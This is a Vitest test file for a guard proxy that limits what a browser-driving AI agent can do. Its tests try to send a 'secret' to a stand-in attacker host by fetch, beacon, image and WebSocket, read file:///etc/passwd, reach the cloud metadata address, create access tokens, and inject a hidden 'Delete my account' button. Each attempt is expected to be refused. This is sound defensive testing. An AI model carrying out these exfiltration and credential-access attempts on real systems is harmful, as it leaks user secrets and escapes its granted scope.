import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright-core';
import puppeteer from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyChain } from '../src/record/chain.ts';
import { type Served, serve } from './cli-process.ts';
import { type GuardedSite, startGuardedSite } from './guarded-site.ts';

const ISSUE = 'https://forge.test/johannr-dev/agent/-/issues/30';
const ATTACKER = 'https://collect.evil.test';

let site: GuardedSite;
let served: Served;
let browser: Browser;
let page: Page;

beforeAll(async () => {
  site = await startGuardedSite();
  const record = join(site.folder, 'record.jsonl');
  served = await serve([
    '--policy',
    site.policy,
    '--task',
    'Look after issue 30 on forge.test',
    '--yes',
    '--record',
    record,
  ]);
  browser = await chromium.connectOverCDP(served.cdp);
  const context = browser.contexts()[0];
  if (context === undefined) throw new Error('no context');
  page = context.pages()[0] ?? (await context.newPage());
});

afterAll(async () => {
  await browser.close();
  await served.stop();
  await site.close();
});

describe('cordon serve, driven by an unmodified Playwright', () => {
  it('shows an allowed page', async () => {
    const response = await page.goto(ISSUE);
    expect(response?.status()).toBe(200);
    expect(await page.innerText('body')).toContain('issue');
  });

  it('shows a page that says what was refused and why, for a navigation outside the grant', async () => {
    await page.goto(`${ATTACKER}/leak?secret=1`);
    const text = await page.innerText('body');
    expect(text).toContain('collect.evil.test');
    expect(text.toLowerCase()).toContain('refused');
    expect(site.sites.logs.attacker).toEqual([]);
  });

  it('shows a client no trace of a control that the goal hides, nor the scripts of the agent itself', async () => {
    await page.goto(ISSUE);
    await page.evaluate(() =>
      document.body.insertAdjacentHTML('beforeend', '<p>End</p><button id="gone">Delete my account</button>'),
    );
    expect(await page.content()).toContain('End');
    expect(await page.content()).not.toContain('Delete my account');
    expect(await page.locator('#gone').count()).toBe(0);
    expect(await page.getByText('Delete my account').count()).toBe(0);
    expect(await page.innerHTML('body')).not.toContain('gone');
    expect(await page.textContent('body')).not.toContain('Delete my account');
    expect(await page.locator('body').ariaSnapshot()).not.toContain('Delete my account');
    expect(await page.evaluate(() => document.querySelector('#gone') === null)).toBe(true);
    expect(await page.evaluate(() => document.body.innerHTML)).not.toContain('Delete my account');
  });

  it('shows no more of a popup that keeps the window of its first, empty document', async () => {
    await page.goto(ISSUE);
    const opened = page.waitForEvent('popup');
    await page.evaluate(() => void open('/johannr-dev/agent/-/issues/30?popup'));
    const popup = await opened;
    await popup.waitForURL('**/30?popup');
    await popup.evaluate(() =>
      document.body.insertAdjacentHTML('beforeend', '<button id="gone">Delete my account</button>'),
    );
    expect(await popup.content()).toContain('issue');
    expect(await popup.content()).not.toContain('Delete my account');
    expect(await popup.locator('#gone').isVisible()).toBe(false);
    expect(await popup.evaluate(() => document.querySelector('#gone'))).toBeNull();
    await popup.close();
  });

  it('fails a denied sub-request, of every kind that a page has at hand', async () => {
    await page.goto(ISSUE);
    const attempts = await page.evaluate(async (attacker) => {
      const failed = (attempt: Promise<unknown>): Promise<string> =>
        attempt.then(
          () => 'sent',
          () => 'failed',
        );
      const image = new Promise((resolve, reject) => {
        const element = new Image();
        element.onload = resolve;
        element.onerror = reject;
        element.src = `${attacker}/pixel?image`;
      });
      const socket = new Promise((resolve, reject) => {
        const opened = new WebSocket(`${attacker.replace('https', 'wss')}/socket`);
        opened.onopen = resolve;
        opened.onerror = reject;
      });
      navigator.sendBeacon(`${attacker}/beacon`, 'secret');
      return Promise.all([failed(fetch(`${attacker}/fetch`)), failed(image), failed(socket)]);
    }, ATTACKER);
    expect(attempts).toEqual(['failed', 'failed', 'failed']);
    await page.waitForTimeout(300);
    expect(site.sites.logs.attacker).toEqual([]);
  });

  it('lets no state change through that nothing granted', async () => {
    await page.goto(ISSUE);
    const before = site.sites.logs.forge.length;
    const status = await page.evaluate(async () => {
      const response = await fetch('/-/user_settings/personal_access_tokens', { method: 'POST', body: 'name=x' });
      return response.status;
    });
    expect(status).toBe(403);
    expect(site.sites.logs.forge.length).toBe(before);
  });

  it('reaches no address of this machine or its network', async () => {
    for (const url of [
      'http://169.254.169.254/latest',
      'http://127.0.0.1:9/',
      'http://[::1]:9/',
      'http://localhost:9/',
    ]) {
      await page.goto(url).catch(() => undefined);
      expect((await page.innerText('body')).toLowerCase()).toContain('refused');
    }
  });

  it('opens no file, no browser page and no script address', async () => {
    for (const url of [
      'file:///etc/passwd',
      'chrome://version',
      'javascript:document.write(1)',
      'view-source:https://forge.test/',
    ]) {
      await page.goto(url).catch(() => undefined);
      expect(await page.content()).not.toMatch(/root:x:0|Revision/);
    }
  });

  it('records every verdict in a chain that holds', async () => {
    const text = readFileSync(served.record, 'utf8');
    expect(verifyChain(text).broken).toBeUndefined();
    expect(text).toContain('send.domain');
    expect(text).not.toContain('secret=1');
  });
});

describe('cordon serve, driven by an unmodified Puppeteer', () => {
  it('shows an allowed page and refuses another', async () => {
    const other = await puppeteer.connect({ browserWSEndpoint: served.cdp });
    try {
      const tab = await other.newPage();
      expect((await tab.goto(ISSUE))?.status()).toBe(200);
      await tab.goto(`${ATTACKER}/puppeteer`);
      expect(await tab.evaluate(() => document.body.innerText)).toContain('collect.evil.test');
      expect(site.sites.logs.attacker).toEqual([]);
      await tab.close();
    } finally {
      await other.disconnect();
    }
  });
});

describe('the endpoint', () => {
  it('is found by its HTTP address too', async () => {
    const again = await chromium.connectOverCDP(served.http);
    expect(again.contexts().length).toBeGreaterThan(0);
    await again.close();
  });

  it('answers nobody without the secret, from another origin, or under another name', async () => {
    const { origin, port } = new URL(served.http);
    expect((await fetch(`${origin}/json/version`)).status).toBeGreaterThanOrEqual(400);
    expect((await fetch(`${served.http}/json/version`, { headers: { origin: 'https://evil.test' } })).status).toBe(403);
    expect((await fetch(`${served.http}/json/version`)).status).toBe(200);
    expect(port).not.toBe('');
  });
});
